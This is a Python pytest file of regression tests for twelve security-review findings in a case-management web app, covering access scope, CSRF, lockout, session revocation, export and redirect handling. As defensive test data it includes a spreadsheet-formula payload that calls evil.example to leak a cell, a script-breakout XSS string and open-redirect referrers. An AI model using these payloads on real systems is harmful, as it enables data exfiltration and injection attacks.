"""The twelve findings of the security review (issue 11), each probed as the attacker
did, plus the class of hole behind it. Every test here failed before its fix."""

import io
import json
import re

import pytest
from sqlalchemy import func, select

from app.extensions import db
from app.models import Case, Category, Channel, Person, Place
from tests.clients import attempt_sign_in, sign_in, signed_in
from tests.lifecycle_helpers import staff_people

pytestmark = pytest.mark.usefixtures("english_ui")

VALID_ID = "11010519491231002X"


def count(model) -> int:
    db.session.expire_all()
    return db.session.scalar(select(func.count()).select_from(model))


def visible_cases(client) -> int:
    return client.get("/api/v1/cases/?q=(page_size:100)").get_json()["count"]


# ---- 1. a clerk widens their own scope -------------------------------------------------

def test_clerk_cannot_make_own_township_a_root_by_api(world, login):
    clerk = login("clerkA")
    township = world.townships["A"]
    assert visible_cases(clerk) == 1
    response = clerk.put(f"/api/v1/places/{township.id}",
                         json={"level": "banner", "parent": None})
    assert response.status_code in (403, 422)
    db.session.expire_all()
    place = db.session.get(Place, township.id)
    assert place.parent_id == world.banner.id and place.level == "township"
    assert visible_cases(clerk) == 1


def test_clerk_cannot_make_own_township_a_root_by_form(world, login):
    clerk = login("clerkA")
    township = world.townships["A"]
    clerk.post(f"/placeview/edit/{township.id}", data={
        "level": "banner", "parent": "", "code": township.code, "name_zh": township.name_zh})
    db.session.expire_all()
    assert db.session.get(Place, township.id).parent_id == world.banner.id
    assert visible_cases(clerk) == 1


def test_clerk_cannot_move_a_place_outside_or_create_a_root(world, login):
    clerk = login("clerkA")
    village = world.villages["A1"]
    moved = clerk.put(f"/api/v1/places/{village.id}", json={"parent": None})
    assert moved.status_code in (403, 422)
    created = clerk.post("/api/v1/places/", json={
        "level": "banner", "code": "150299000000", "name_zh": "假旗"})
    assert created.status_code in (403, 422)
    db.session.expire_all()
    assert db.session.get(Place, village.id).parent_id == world.townships["A"].id
    assert db.session.scalar(select(Place).where(Place.code == "150299000000")) is None


def test_a_parentless_place_that_is_not_a_banner_grants_nothing(world, login):
    township = world.townships["A"]
    db.session.execute(Place.__table__.update().where(Place.id == township.id)
                       .values(parent_id=None, path=f"/{township.code}/"))
    db.session.commit()
    assert visible_cases(login("clerkA")) <= 1


# ---- 2. nested objects in a payload create rows ------------------------------------------

@pytest.mark.parametrize("field", ["category", "channel"])
def test_nested_object_in_a_case_payload_creates_nothing(world, login, field):
    clerk = login("clerkA")
    case = world.cases["A"]
    model = Category if field == "category" else Channel
    before = count(model)
    nested = {"id": 987654, "code": "X", "name_zh": "造", "name_mn": "x", "list": "service"}
    response = clerk.put(f"/api/v1/cases/{case.id}", json={field: nested})
    assert response.status_code in (400, 422)
    assert count(model) == before


@pytest.mark.parametrize("value", [None, {}, {"id": None}, "abc", [1], 987654, True])
def test_relation_values_other_than_an_existing_id_are_refused(world, login, value):
    clerk = login("clerkA")
    case = world.cases["A"]
    response = clerk.put(f"/api/v1/cases/{case.id}", json={"category": value})
    assert response.status_code in (400, 422), response.get_data(as_text=True)
    assert response.is_json


def test_relation_given_by_existing_id_still_works(world, login):
    clerk = login("clerkA")
    case = world.cases["A"]
    other = db.session.scalar(select(Category).where(Category.id != case.category_id,
                                                     Category.list == "service"))
    response = clerk.put(f"/api/v1/cases/{case.id}", json={"category": other.id})
    assert response.status_code == 200, response.get_json()
    db.session.expire_all()
    assert db.session.get(Case, case.id).category_id == other.id


# ---- 3. a cross-site form post drives the API with the session cookie --------------------

def test_cross_site_form_post_to_a_case_action_is_refused(world, login):
    clerk = login("clerkA")
    case = world.cases["A"]
    clerk.post(f"/api/v1/cases/{case.id}/terminate", json={"reason": "withdrawn"})
    response = clerk.post(f"/api/v1/cases/{case.id}/archive", data={"x": "1"},
                          content_type="application/x-www-form-urlencoded")
    assert response.status_code in (400, 403, 415)
    db.session.expire_all()
    assert db.session.get(Case, case.id).state != "archived"
    plain = clerk.post(f"/api/v1/cases/{case.id}/archive", data="{}",
                       content_type="text/plain")
    assert plain.status_code in (400, 403, 415)


def test_cross_site_form_post_to_a_model_api_is_refused(world, login):
    clerk = login("clerkA")
    before = count(Person)
    response = clerk.post("/api/v1/people/", data={"name_zh": "x"})
    assert response.status_code in (400, 403, 415)
    assert count(Person) == before


def test_json_api_calls_with_the_session_still_work(world, login):
    clerk = login("clerkA")
    case = world.cases["A"]
    response = clerk.post(f"/api/v1/cases/{case.id}/terminate", json={"reason": "withdrawn"})
    assert response.status_code == 200


# ---- 4. a masked ID number read back through a "starts with" filter ----------------------

def test_masked_columns_have_no_partial_match_filter(world, login):
    person = world.people["A"]
    person.id_number = VALID_ID
    person.phone = "13800138000"
    db.session.commit()
    petitioner = world.petitioners["A"]
    petitioner.id_number = VALID_ID
    petitioner.phone = "13800138000"
    db.session.commit()
    client = login("mediatorA")
    for view, column, name in (("personview", "id_number", "A代办员"),
                               ("personview", "phone", "A代办员"),
                               ("petitionerview", "id_number", "A群众"),
                               ("petitionerview", "phone", "A群众")):
        for opr in range(10):
            right = client.get(f"/{view}/list/?_flt_{opr}_{column}=1")
            wrong = client.get(f"/{view}/list/?_flt_{opr}_{column}=9")
            assert right.status_code == wrong.status_code == 200
            # a partial value tells nothing: the right first digit and a wrong one
            # give the same page
            assert (name in right.get_data(as_text=True)) == (
                name in wrong.get_data(as_text=True)), (view, column, opr)
    # the whole value still finds the row (exact match)
    page = client.get(f"/petitionerview/list/?_flt_0_id_number={VALID_ID}").get_data(
        as_text=True)
    assert "A群众" in page
    assert "A群众" not in client.get(
        "/petitionerview/list/?_flt_0_id_number=11010519491231002").get_data(as_text=True)


def test_masked_columns_cannot_be_sorted(world, login):
    client = login("mediatorA")
    for view in ("personview", "petitionerview"):
        for column in ("id_number", "phone"):
            page = client.get(f"/{view}/list/?_oc_{view.title()}View={column}&_od_x=asc")
            assert page.status_code == 200


# ---- 5. no lockout ---------------------------------------------------------------------

def test_api_login_locks_after_five_failures(world, db_app):
    client = db_app.test_client()
    codes = [client.post("/api/v1/security/login", json={
        "username": "clerkA", "password": f"wrong{n}", "provider": "db"}).status_code
        for n in range(6)]
    assert codes[:5] == [401] * 5
    assert codes[5] == 429
    right = client.post("/api/v1/security/login", json={
        "username": "clerkA", "password": "password", "provider": "db"})
    assert right.status_code == 429


def test_web_login_locks_after_five_failures(world, db_app):
    client = db_app.test_client()
    for n in range(5):
        client.post("/login/", data={"username": "clerkA", "password": f"wrong{n}"})
    response = client.post("/login/", data={"username": "clerkA", "password": "password"})
    assert response.status_code != 302 or "/login" in response.headers["Location"]


# ---- 6. sessions outlive logout --------------------------------------------------------

def test_a_copied_session_cookie_is_dead_after_logout(world, db_app):
    client = sign_in(db_app, "clerkA")
    cookie = client.get_cookie("session").value
    assert client.get("/api/v1/cases/").status_code == 200
    client.post("/logout/")
    thief = db_app.test_client()
    thief.set_cookie("session", cookie)
    assert thief.get("/api/v1/cases/").status_code == 401


def test_logout_does_not_happen_on_get(world, db_app):
    client = sign_in(db_app, "clerkA")
    client.get("/logout/")
    assert client.get("/api/v1/cases/").status_code == 200


def test_refresh_tokens_are_short_lived_and_revoked_at_logout(world, db_app):
    client = db_app.test_client()
    tokens = client.post("/api/v1/security/login", json={
        "username": "clerkA", "password": "password", "provider": "db",
        "refresh": True}).get_json()
    assert int(db_app.config["JWT_REFRESH_TOKEN_EXPIRES"]) <= 24 * 3600
    access = {"Authorization": f"Bearer {tokens['access_token']}"}
    assert client.get("/api/v1/cases/", headers=access).status_code == 200
    web = sign_in(db_app, "clerkA")
    web.post("/logout/")
    assert client.get("/api/v1/cases/", headers=access).status_code == 401
    refreshed = client.post("/api/v1/security/refresh", headers={
        "Authorization": f"Bearer {tokens['refresh_token']}"})
    assert refreshed.status_code == 401


def _signs_in(db_app, password) -> bool:
    return signed_in(attempt_sign_in(db_app, "clerkA", password))


def test_changing_password_asks_for_the_current_one(world, db_app):
    client = sign_in(db_app, "clerkA")
    new = {"password": "N3w-Passw0rd", "conf_password": "N3w-Passw0rd"}
    client.post("/resetmypassword/form", data=new)
    client.post("/resetmypassword/form", data={**new, "old_password": "wrong"})
    assert _signs_in(db_app, "password")
    client.post("/resetmypassword/form", data={**new, "old_password": "password"})
    assert _signs_in(db_app, "N3w-Passw0rd")


# ---- 7. spreadsheet formulas in exports ------------------------------------------------

@pytest.mark.clean_slate  # the CSV export reads on a session of its own
def test_export_neutralises_formula_cells(world, login):
    person = world.people["A"]
    person.name_zh = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    person.organisation = "+cmd"
    db.session.commit()
    text = login("clerkA").get("/personview/export/").get_data(as_text=True)
    for line in text.splitlines()[1:]:
        for cell in next(iter(__import__("csv").reader([line]))):
            assert not cell.startswith(("=", "+", "-", "@")), cell


# ---- 8. the chart library's code marker breaks the cockpit ------------------------------

def test_chart_code_marker_in_a_place_name_does_not_break_the_cockpit(world, login):
    township = world.townships["A"]
    township.name_zh = 'A镇--x_x--0_0--"}</script><script>alert(1)</script>'
    db.session.commit()
    page = login("leader").get("/cockpit/").get_data(as_text=True)
    blobs = re.findall(r'<script type="application/json" id="chart-data-[^"]+">(.*?)</script>',
                       page, re.S)
    assert blobs
    for blob in blobs:
        json.loads(blob)
    assert "<script>alert(1)" not in page


# ---- 9. someone else's upload attached by its stored name -------------------------------

def test_another_cases_scan_cannot_be_attached_by_its_stored_name(world, db_app, login):
    staff_people(world)
    pdf = b"%PDF-1.4\n% test\n"
    agent_b = login("agentB")
    case_b = world.cases["B"]
    page = agent_b.get(f"/caseview/show/{case_b.id}").get_data(as_text=True)
    version = re.search(r'name="version" value="(\d+)"', page).group(1)
    agent_b.post(f"/caseview/act/{case_b.id}/accept", data={
        "version": version, "entrustment_signer": "乙", "entrustment_signed_on": "2026-11-03",
        "entrustment_scan": (io.BytesIO(pdf), "scan.pdf")},
        content_type="multipart/form-data")
    db.session.expire_all()
    stored = db.session.get(Case, case_b.id).entrustment_file
    assert stored
    agent_a = login("agentA")
    case_a = world.cases["A"]
    response = agent_a.post(f"/api/v1/cases/{case_a.id}/accept", json={
        "entrustment_signer": "甲", "entrustment_signed_on": "2026-11-03",
        "entrustment_file": stored})
    assert response.status_code == 422
    served = agent_a.get(f"/caseview/entrustment_scan/{case_a.id}")
    assert served.status_code == 404


def test_a_scan_is_checked_by_content_not_name(world, login):
    staff_people(world)
    agent = login("agentA")
    case = world.cases["A"]
    page = agent.get(f"/caseview/show/{case.id}").get_data(as_text=True)
    version = re.search(r'name="version" value="(\d+)"', page).group(1)
    agent.post(f"/caseview/act/{case.id}/accept", data={
        "version": version, "entrustment_signer": "甲", "entrustment_signed_on": "2026-11-03",
        "entrustment_scan": (io.BytesIO(b"<html><script>alert(1)</script>"), "scan.pdf")},
        content_type="multipart/form-data")
    db.session.expire_all()
    assert db.session.get(Case, case.id).entrustment_file is None


# ---- 10. open redirect -----------------------------------------------------------------

@pytest.mark.parametrize("referrer", ["http://localhost//evil.example/x",
                                      "http://localhost/\\evil.example/x",
                                      "http://evil.example/x"])
def test_language_switch_never_redirects_off_site(world, login, referrer):
    response = login("clerkA").get("/lang/zh", headers={"Referer": referrer})
    location = response.headers["Location"]
    assert not location.startswith(("//", "/\\", "http://evil", "https://evil")), location


# ---- 11. inputs that answered 500 ------------------------------------------------------

def test_requests_that_answered_500(world, db_app, login):
    db_app.config["WTF_CSRF_ENABLED"] = True
    try:
        anonymous = db_app.test_client()
        assert anonymous.post("/placeview/add", data={"code": "x"}).status_code == 400
    finally:
        db_app.config["WTF_CSRF_ENABLED"] = False
    clerk = login("clerkA")
    pk = world.villages["A1"].id
    assert clerk.post(f"/placeview/action/muldelete/{pk}").status_code < 500
    assert clerk.post(f"/placeview/action/nosuchaction/{pk}").status_code < 500
    assert clerk.post("/placeview/action_post", data={"action": "nosuch",
                                                      "rowid": str(pk)}).status_code < 500
    assert clerk.get("/placeview/download/x").status_code == 404
    for q in ["(", "(page:-5)", "(page_size:-1)", "(page:x)", "!(", "(filters:5)",
              "(order_column:nope,order_direction:up)", "(columns:!(nope))"]:
        response = clerk.get(f"/api/v1/cases/?q={q}")
        assert response.status_code < 500, q
        assert response.is_json
        assert clerk.get(f"/api/v1/places/?q={q}").status_code < 500, q
    admin = login("admin")
    case = world.cases["A"]
    response = admin.delete(f"/api/v1/cases/{case.id}")
    assert response.status_code in (200, 403, 404, 422)
    for body in ({"place": None}, {"place": {}}, {"petitioner": [1]}):
        assert clerk.post("/api/v1/cases/", json=body).status_code < 500


# ---- 12. security headers --------------------------------------------------------------

def test_every_response_carries_security_headers(world, login):
    client = login("clerkA")
    for url in ("/", "/login/", "/api/v1/cases/", "/nosuchpage"):
        headers = client.get(url).headers
        assert headers["X-Frame-Options"] == "DENY"
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert "default-src 'self'" in headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
        assert headers["Referrer-Policy"]


def test_inputs_found_by_fuzzing_the_openapi_spec_answer_without_a_server_error(world, login):
    """tests/test_schemathesis.py found these: ids beyond any integer column in a path
    (SQLite's driver overflowed), a rison number with a space for its "+" (the parser
    crashed with ValueError), a number too large for a filter, and a sign-in body
    without its provider (FAB's KeyError)."""
    admin = login("admin")
    huge = 10**30
    for url in (f"/api/v1/cases/{huge}", f"/api/v1/audit/{huge}", f"/api/v1/escalations/{huge}",
                f"/caseview/show/{huge}", f"/personview/edit/{huge}",
                f"/api/v1/cases/?q=(page:{huge},page_size:10)", "/api/v1/cases/?q=1.5e 16",
                "/api/v1/escalations/_info?q=-2.7e 16",
                f"/caseview/list/?_flt_0_place={huge}",
                f"/caseview/list/?_flt_0_head_count={huge}"):
        response = admin.get(url)
        assert response.status_code in (200, 302, 400, 404), (url, response.status_code)
        if url.startswith("/api/") and response.status_code != 200:
            assert set(response.get_json()) == {"code", "message", "field"}, url
    response = admin.post("/api/v1/security/login", json={"username": "x", "password": "y"})
    assert response.status_code == 400 and response.get_json()["field"] == "provider"


def test_a_nul_character_in_a_json_body_is_refused_not_a_server_error(world, login):
    """Found by schemathesis on PostgreSQL, whose text columns cannot hold NUL: the body
    is refused with 400 before anything reads it."""
    response = login("clerkA").post(
        "/api/v1/exchange/cases", data='{"records": [{"number": "A\\u0000"}]}',
        content_type="application/json")
    assert response.status_code == 400
    assert response.get_json()["code"] == "bad_request"
